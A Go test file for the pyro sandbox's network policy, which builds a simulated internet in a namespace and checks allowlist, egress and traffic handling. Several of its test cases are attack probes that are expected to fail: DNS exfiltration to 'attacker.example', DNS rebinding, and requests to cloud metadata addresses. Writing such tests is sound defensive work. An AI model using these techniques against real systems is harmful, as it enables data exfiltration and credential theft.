package pyro_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	mathrand "math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// inWorld marks the run of a test inside of namespaces of its own.
const inWorld = "PYRO_TEST_NETWORK_WORLD"

// TestNetworkPolicy tries every road out of a sandbox, with pyro and an internet
// of loopback servers in a network namespace that the test makes.
func TestNetworkPolicy(t *testing.T) {
	if os.Getenv(inWorld) == "" {
		enterWorld(t)
		return
	}
	w := newWeb(t)
	t.Run("allowlist", w.allowlist)
	t.Run("egress", w.egress)
	t.Run("traffic", w.traffic)
	t.Run("tools", w.tools)
	t.Run("microVM", w.microVM)
}

// enterWorld installs the environment, which needs the real network, and runs
// the test again in namespaces.
func enterWorld(t *testing.T) {
	if _, err := exec.LookPath("ip"); err != nil {
		t.Skip("needs ip, of iproute2, to set up a network namespace")
	}
	h := newHarness(t)
	environ := append(os.Environ(), "PYRO_STATE_DIR="+filepath.Join(h.dir, "s"), "PYRO_CACHE_DIR="+h.cache, "PYRO_CONFIG_DIR="+filepath.Join(h.dir, "c"))
	stop := exec.Command(program(t), "daemon", "stop", "--force")
	stop.Env = environ
	defer stop.Run()
	environments := []string{"debian:12", "debian:12-build"}
	if hasMicroVMs() {
		environments = append(environments, "kernel:debian-12")
	}
	for _, environment := range environments {
		pull := exec.Command(program(t), "env", "pull", environment)
		pull.Env = environ
		if out, err := pull.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	makeClient(t, filepath.Join(h.dir, "netclient"))
	self := exec.Command("/proc/self/exe", "-test.run=^TestNetworkPolicy$", "-test.v")
	self.Env = append(os.Environ(), inWorld+"="+h.dir, "PYRO_TEST_CACHE_DIR="+h.cache, "PYRO_BIN="+program(t))
	self.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	if os.Geteuid() != 0 {
		self.SysProcAttr.Cloneflags |= syscall.CLONE_NEWUSER
		self.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Geteuid(), Size: 1}}
		self.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getegid(), Size: 1}}
	}
	out, err := self.CombinedOutput()
	t.Logf("%s", out)
	if err != nil {
		t.Fatal(err)
	}
}

// makeClient builds the client, or takes the one that PYRO_TEST_NETCLIENT names.
func makeClient(t *testing.T, path string) {
	t.Helper()
	if built := os.Getenv("PYRO_TEST_NETCLIENT"); built != "" {
		b, err := os.ReadFile(built)
		if err == nil {
			err = os.WriteFile(path, b, 0o755)
		}
		if err != nil {
			t.Fatal(err)
		}
		return
	}
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("needs go to build what runs in the sandbox, or PYRO_TEST_NETCLIENT with testdata/netclient as a static program")
	}
	build := exec.Command("go", "build", "-trimpath", "-o", path, "./testdata/netclient")
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-buildvcs=false")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
}

// web is an internet.
type web struct {
	dir string
	ca  []byte

	mu    sync.Mutex
	asked []string // what the host's name server was asked
}

// hosts are the names of this internet.
var hosts = map[string][]string{
	"open.example.": {"93.184.216.10", "2606:2800::10"}, "closed.example.": {"93.184.216.10"}, "other.example.": {"93.184.216.20"},
	"private.example.": {"10.1.0.7"}, "loopback.example.": {"127.0.0.1"},
	"git.example.": {"93.184.216.30"}, "code.example.": {"93.184.216.32"}, "pypi.example.": {"93.184.216.31"},
	"metadata.example.": {"169.254.169.254"},
}

func newWeb(t *testing.T) *web {
	w := &web{dir: os.Getenv(inWorld)}
	gathering.Add(gathered) // before the first server runs, as the race detector knows of no order through a socket
	for _, args := range []string{
		"link set lo up",
		"route add local 93.184.216.0/24 dev lo", "route add local 10.1.0.0/16 dev lo", "route add local 169.254.0.0/16 dev lo",
		"addr add 8.8.4.4/32 dev lo", "-6 route add local 2606:2800::/64 dev lo",
	} {
		if out, err := exec.Command("ip", strings.Fields(args)...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v %s", args, err, out)
		}
	}
	conf := filepath.Join(w.dir, "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver 127.0.0.1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(conf, "/etc/resolv.conf", "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
	config := w.certificate(t)
	for _, at := range []string{"93.184.216.10:80", "93.184.216.10:8081", "93.184.216.20:80", "[2606:2800::10]:80", "169.254.169.254:80", "10.1.0.7:80", "8.8.4.4:80", "127.0.0.1:8080"} {
		serveWeb(t, at, nil)
	}
	serveWeb(t, "93.184.216.10:443", config)
	for _, at := range []string{"93.184.216.10:80", "93.184.216.20:443"} {
		serveEcho(t, at)
	}
	w.serveNames(t, "127.0.0.1:53", true)
	w.serveNames(t, "93.184.216.53:53", false)
	return w
}

func serveWeb(t *testing.T, at string, config *tls.Config) {
	// An address that only a route makes the host's own takes this, of IPv6.
	free := net.ListenConfig{Control: func(network, _ string, c syscall.RawConn) error {
		if network != "tcp6" {
			return nil
		}
		return c.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.IPPROTO_IPV6, unix.IPV6_FREEBIND, 1) })
	}}
	l, err := free.Listen(t.Context(), "tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	if config != nil {
		l = tls.NewListener(l, config)
	}
	t.Cleanup(func() { l.Close() })
	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://169.254.169.254/latest", http.StatusFound)
			return
		}
		if serve := loads[r.URL.Path]; serve != nil {
			serve(w, r)
			return
		}
		fmt.Fprintf(w, "%s at %s", r.Host, at)
	}))
}

// loads are what measures more than whether something is reached.
var loads = map[string]http.HandlerFunc{
	"/data": func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.Copy(w, io.LimitReader(mathrand.NewChaCha8([32]byte{7}), loadBytes))
	},
	"/take": func(w http.ResponseWriter, r *http.Request) {
		sum := sha256.New()
		n, _ := io.Copy(sum, r.Body)
		fmt.Fprintf(w, "%d %x", n, sum.Sum(nil))
	},
	"/gather": func(_ http.ResponseWriter, r *http.Request) { gathering.Done(); gathering.Wait() },
	"/flood": func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.Copy(w, mathrand.NewChaCha8([32]byte{}))
	},
	"/drip": func(w http.ResponseWriter, r *http.Request) {
		for r.Context().Err() == nil {
			fmt.Fprintln(w, "drop")
			w.(http.Flusher).Flush()
			time.Sleep(10 * time.Millisecond)
		}
	},
}

const (
	loadBytes = 200 << 20
	gathered  = 500
)

var gathering sync.WaitGroup

func serveEcho(t *testing.T, at string) {
	c, err := net.ListenPacket("udp", at)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	go func() {
		b := make([]byte, 2000)
		for {
			n, from, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			_, _ = c.WriteTo(b[:n], from)
		}
	}()
}

// serveNames is a name server, over UDP and TCP.
func (w *web) serveNames(t *testing.T, at string, note bool) {
	c, err := net.ListenPacket("udp", at)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	go func() {
		b := make([]byte, 2000)
		for {
			n, from, err := c.ReadFrom(b)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(b[:n]) != nil || len(m.Questions) != 1 {
				continue
			}
			if note {
				w.mu.Lock()
				w.asked = append(w.asked, m.Questions[0].Name.String())
				w.mu.Unlock()
			}
			if answer, err := answerTo(m).Pack(); err == nil {
				_, _ = c.WriteTo(answer, from)
			}
		}
	}()
	serveWeb(t, at, nil) // whoever comes by TCP gets something
}

func answerTo(m dnsmessage.Message) *dnsmessage.Message {
	q := m.Questions[0]
	answer := &dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true, RecursionAvailable: true}, Questions: m.Questions}
	list, known := hosts[strings.ToLower(q.Name.String())]
	if !known {
		answer.RCode = dnsmessage.RCodeNameError
	}
	header := dnsmessage.ResourceHeader{Name: q.Name, Type: q.Type, Class: q.Class, TTL: 60}
	for _, text := range list {
		ip := net.ParseIP(text)
		switch {
		case q.Type == dnsmessage.TypeA && ip.To4() != nil:
			answer.Answers = append(answer.Answers, dnsmessage.Resource{Header: header, Body: &dnsmessage.AResource{A: [4]byte(ip.To4())}})
		case q.Type == dnsmessage.TypeAAAA && ip.To4() == nil:
			answer.Answers = append(answer.Answers, dnsmessage.Resource{Header: header, Body: &dnsmessage.AAAAResource{AAAA: [16]byte(ip)}})
		}
	}
	if known && q.Type == dnsmessage.TypeTXT {
		answer.Answers = append(answer.Answers, dnsmessage.Resource{Header: header, Body: &dnsmessage.TXTResource{TXT: []string{"a text"}}})
	}
	return answer
}

// certificate is one for all names, signed by itself.
func (w *web) certificate(t *testing.T) *tls.Config {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		DNSNames: []string{"open.example", "closed.example"}, IsCA: true, BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	w.ca = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	return &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
}

func (w *web) environ() []string {
	return append(os.Environ(), "PYRO_STATE_DIR="+filepath.Join(w.dir, "w"), "PYRO_CACHE_DIR="+os.Getenv("PYRO_TEST_CACHE_DIR"), "PYRO_CONFIG_DIR="+filepath.Join(w.dir, "c"))
}

// pyro runs the program and returns its stdout.
func (w *web) pyro(t *testing.T, args ...string) []byte {
	t.Helper()
	cmd := exec.Command(program(t), args...)
	cmd.Env = w.environ()
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("pyro %q: %v\n%s%s", args, err, out, stderr.String())
	}
	return out
}

// workspace makes one with the client inside.
func (w *web) workspace(t *testing.T, args ...string) string {
	return w.workspaceOf(t, "debian:12", t.TempDir(), args...)
}

// workspaceOf makes one of an environment, with the client and a folder inside.
func (w *web) workspaceOf(t *testing.T, environment, seed string, args ...string) string {
	t.Helper()
	client, err := os.ReadFile(filepath.Join(w.dir, "netclient"))
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"netclient": client, "ca.pem": w.ca} {
		if err := os.WriteFile(filepath.Join(seed, name), data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	var ws struct {
		WorkspaceID string `json:"workspace_id"`
	}
	out := w.pyro(t, append([]string{"workspace", "create", environment, "--seed-path", seed, "--json"}, args...)...)
	if err := json.Unmarshal(out, &ws); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		w.pyro(t, "workspace", "delete", ws.WorkspaceID)
		w.pyro(t, "daemon", "stop", "--force")
	})
	return ws.WorkspaceID
}

// attempt is one try of the client: what it must say begins with want.
type attempt struct{ name, args, want string }

func (w *web) try(t *testing.T, id string, attempts []attempt) {
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			args := append([]string{"workspace", "exec", id, "--", "./netclient"}, strings.Fields(a.args)...)
			if got := string(w.pyro(t, args...)); !strings.HasPrefix(got, a.want) {
				t.Errorf("%s says %q, want %q", a.args, strings.TrimSpace(got), a.want)
			}
		})
	}
}

func (w *web) allowlist(t *testing.T) {
	policy := filepath.Join(t.TempDir(), "policy.json")
	rules := `{"version":1,"rules":[{"name":"open.example"},{"name":"private.example"},{"name":"loopback.example"},{"name":"metadata.example"}]}`
	if err := os.WriteFile(policy, []byte(rules), 0o644); err != nil {
		t.Fatal(err)
	}
	id := w.workspace(t, "--network-policy", policy)
	w.try(t, id, []attempt{
		// An address that nobody has looked up yet is nobody's.
		{"address before look-up", "get http://93.184.216.10/", "failed: "},
		{"HTTP", "get http://open.example/", "200 open.example at 93.184.216.10:80"},
		{"HTTPS", "get https://open.example/", "200 open.example at 93.184.216.10:443"},
		{"raw address", "get http://93.184.216.20/", "failed: "},
		{"other port", "get http://open.example:8081/", "failed: "},
		{"other name", "get http://other.example/", "failed: "},
		{"other name, same address", "get http://closed.example/", "failed: "},
		{"other Host, same address", "get http://open.example/ closed.example", "failed: "},
		{"other server name, same address", "get https://open.example/ closed.example", "failed: "},
		{"other server name, chosen address", "get https://closed.example/ closed.example 93.184.216.10:443", "failed: "},
		{"IPv6", "get http://[2606:2800::11]/", "failed: "},
		{"UDP", "udp 93.184.216.10:80", "failed: "},
		{"UDP to others", "udp 93.184.216.20:443", "failed: "},
		{"DNS", "lookup open.example A", "[93.184.216.10]"},
		{"DNS over TCP", "lookup open.example A tcp 10.213.77.1:53", "[93.184.216.10]"},
		{"DNS of closed names over TCP", "lookup closed.example A tcp 10.213.77.1:53", "failed: "},
		{"DNS to another server", "lookup open.example A udp 93.184.216.53:53", "failed: "},
		{"DNS to another server over TCP", "lookup open.example A tcp 93.184.216.53:53", "failed: "},
		{"TXT", "lookup open.example TXT", "failed: "},
		{"exfiltration by look-up", "lookup c2vjcmv0.attacker.example TXT", "failed: "},
		{"exfiltration below an open name", "lookup c2vjcmv0.open.example A", "failed: "},
		{"rebinding to a private address", "get http://private.example/", "failed: "},
		{"rebinding to the loopback", "get http://loopback.example:8080/", "failed: "},
		{"rebinding to the metadata", "get http://metadata.example/", "failed: "},
		{"redirect to the metadata", "get http://open.example/redirect", "failed: "},
		{"metadata", "get http://169.254.169.254/", "failed: "},
		{"the host's services", "get http://10.213.77.1:8080/", "failed: "},
		{"the host's services by its address", "get http://8.8.4.4/", "failed: "},
		{"HTTP still", "get http://open.example/", "200 open.example"},
	})
	w.mu.Lock()
	for _, name := range w.asked {
		if strings.Contains(name, "c2vjcmv0") || strings.Contains(name, "closed") {
			t.Errorf("the host's name server was asked for %s", name)
		}
	}
	w.mu.Unlock()
	log := string(w.pyro(t, "workspace", "network", "log", id))
	for _, want := range []string{"closed.example", "93.184.216.20:80", "open.example 93.184.216.10:8081", "c2vjcmv0.attacker.example", "169.254.169.254:80", "[2606:2800::11]:80", "10.1.0.7"} {
		if !strings.Contains(log, want) {
			t.Errorf("the log does not tell of %s:\n%s", want, log)
		}
	}
}

func (w *web) egress(t *testing.T) {
	id := w.workspace(t, "--network")
	w.try(t, id, []attempt{
		{"HTTP", "get http://open.example/", "200 open.example"},
		{"HTTPS", "get https://closed.example/", "200 closed.example"},
		{"other port", "get http://open.example:8081/", "200 open.example:8081"},
		{"raw address", "get http://93.184.216.20/", "200 93.184.216.20"},
		{"IPv6", "get http://[2606:2800::10]/", "200 [2606:2800::10]"},
		{"UDP", "udp 93.184.216.20:443", "hello"},
		{"another name server", "lookup other.example A udp 93.184.216.53:53", "[93.184.216.20]"},
		{"private network", "get http://10.1.0.7/", "failed: "},
		{"private name", "get http://private.example/", "failed: "},
		{"metadata", "get http://169.254.169.254/", "failed: "},
		{"redirect to the metadata", "get http://open.example/redirect", "failed: "},
		{"the host's loopback", "get http://10.213.77.1:8080/", "failed: "},
		{"the host's loopback by name", "get http://loopback.example:8080/", "failed: "},
		{"the host's own address", "get http://8.8.4.4/", "failed: "},
		{"IPv4 in IPv6 form", "tcp [64:ff9b::7f00:1]:8080", "failed: "},
	})
}

// traffic moves much, over many connections, through deaths of what carries it.
func (w *web) traffic(t *testing.T) {
	id := w.workspace(t, "--network", "--pid-limit", "2000")
	client := func(args ...string) string {
		t.Helper()
		return strings.TrimSpace(string(w.pyro(t, append([]string{"workspace", "exec", id, "--timeout-seconds", "300", "--", "./netclient"}, args...)...)))
	}
	sum := sha256.New()
	_, _ = io.Copy(sum, io.LimitReader(mathrand.NewChaCha8([32]byte{7}), loadBytes))
	want := fmt.Sprintf("%d %x", loadBytes, sum.Sum(nil))
	if got := client("download", "http://open.example/data"); got != want {
		t.Errorf("200 MiB come as %q, want %q", got, want)
	}
	if got := client("upload", "http://open.example/take", fmt.Sprint(loadBytes)); got != fmt.Sprintf("%x %s", sum.Sum(nil), want) {
		t.Errorf("200 MiB go as %q, want %q", got, want)
	}
	if got, want := client("gather", "http://open.example/gather", fmt.Sprint(gathered)), fmt.Sprintf("%d of %d", gathered, gathered); got != want {
		t.Errorf("at the same time: %q, want %q", got, want)
	}

	// A client that never reads.
	stall := exec.Command(program(t), "workspace", "exec", id, "--timeout-seconds", "300", "--", "./netclient", "stall", "http://open.example/flood", "50")
	stall.Env = w.environ()
	stdin, _ := stall.StdinPipe()
	stdout, _ := stall.StdoutPipe()
	if err := stall.Start(); err != nil {
		t.Fatal(err)
	}
	first := make([]byte, 100)
	n, _ := stdout.Read(first)
	if got := string(first[:n]); got != "50 of 50\n" {
		t.Errorf("the answers that nobody reads: %q", got)
	}
	time.Sleep(2 * time.Second) // so that what could pile up does
	if mib := peakMiB(t, id); mib > 300 {
		t.Errorf("the uplink took %d MiB for a client that never reads", mib)
	}
	stdin.Close()
	_ = stall.Wait()

	// Whatever dies during traffic, it comes back.
	for _, kill := range [][]string{{"uplink"}, {"daemon"}, {"daemon", "uplink"}, {"uplink"}} {
		drip := exec.Command(program(t), "workspace", "exec", id, "--timeout-seconds", "300", "--", "./netclient", "download", "http://open.example/drip")
		drip.Env = w.environ()
		if err := drip.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(300 * time.Millisecond)
		for _, what := range kill {
			for _, pid := range w.processes(t, id, what) {
				_ = syscall.Kill(pid, syscall.SIGKILL)
			}
		}
		if kill[0] == "uplink" {
			_ = drip.Wait() // its connection is reset
		} else {
			_ = drip.Process.Kill()
			_ = drip.Wait()
		}
		deadline := time.Now().Add(time.Minute)
		for got := ""; !strings.HasPrefix(got, "200 "); got = client("get", "http://open.example/") {
			if time.Now().After(deadline) {
				t.Fatalf("after the death of %q nothing is reached: %s", kill, got)
			}
		}
	}
}

// processes are those that a test kills.
func (w *web) processes(t *testing.T, id, what string) []int {
	t.Helper()
	if what == "daemon" {
		var status struct{ PID int }
		if err := json.Unmarshal(w.pyro(t, "daemon", "status", "--json"), &status); err != nil {
			t.Fatal(err)
		}
		return []int{status.PID}
	}
	var pids []int
	files, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, f := range files {
		cmdline, _ := os.ReadFile(f)
		if bytes.HasPrefix(cmdline, []byte("pyro-uplink\x00")) && bytes.Contains(cmdline, []byte(id)) {
			var pid int
			_, _ = fmt.Sscanf(f, "/proc/%d/", &pid)
			pids = append(pids, pid)
		}
	}
	if len(pids) == 0 {
		t.Fatalf("nothing carries the network of %s", id)
	}
	return pids
}

// peakMiB is the most memory that the workspace's uplink ever had.
func peakMiB(t *testing.T, id string) int {
	t.Helper()
	w := &web{}
	peak := 0
	for _, pid := range w.processes(t, id, "uplink") {
		status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		for line := range strings.Lines(string(status)) {
			var kib int
			if n, _ := fmt.Sscanf(line, "VmHWM: %d kB", &kib); n == 1 {
				peak = max(peak, kib>>10)
			}
		}
	}
	if peak == 0 {
		t.Fatal("the memory of the uplink cannot be read")
	}
	t.Logf("the uplink took %d MiB at most", peak)
	return peak
}
